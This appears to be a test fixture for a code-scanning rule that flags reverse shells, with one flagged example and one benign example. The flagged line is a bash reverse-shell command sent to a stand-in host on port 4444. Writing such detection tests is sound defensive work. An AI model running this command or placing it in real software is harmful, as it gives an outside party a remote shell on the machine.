// ruleid: opens-reverse-shell
exec("bash -c 'bash -i >& /dev/tcp/collector.invalid/4444 0>&1'");

// ok: opens-reverse-shell
exec("bash scripts/install.sh");
